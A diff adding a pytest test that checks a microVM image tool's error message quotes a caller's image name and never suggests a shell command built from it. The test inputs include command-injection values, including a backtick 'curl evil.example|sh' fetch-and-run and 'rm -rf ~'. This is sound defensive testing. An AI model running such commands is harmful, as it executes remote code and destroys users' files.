@@ -469,3 +469,14 @@ def test_an_import_into_a_relative_cache_dir_records_absolute_paths(
     written = json.loads((tmp_path / "cache" / "mine" / "manifest.json").read_text())
     assert Path(written["rootfs"]).is_absolute() and Path(written["bzimage"]).is_absolute()
     assert Path(m.rootfs) == (tmp_path / "cache").resolve() / Path(m.root).name / "rootfs.ext4"
+
+
+@pytest.mark.parametrize("name", ["x`curl evil.example|sh`", "x; rm -rf ~", "$(reboot)", "mine --recipe debian"])
+def test_a_callers_image_name_never_becomes_a_command_to_paste(tmp_path: Path, name: str) -> None:
+    """The image of a job's spec is the caller's text: the error shows it quoted, and suggests no command
+    built from it (before: "run `microvm-blueprint image build --name <their text>`")."""
+    with pytest.raises(ImageError) as err:
+        images.resolve_image(name, tmp_path)
+    message = str(err.value)
+    assert message == f"image '{name}' is not built on this operator (only its operator can build or import it)"
+    assert message.count(name) == 1 and "image build" not in message and "`" not in message.replace(name, "")
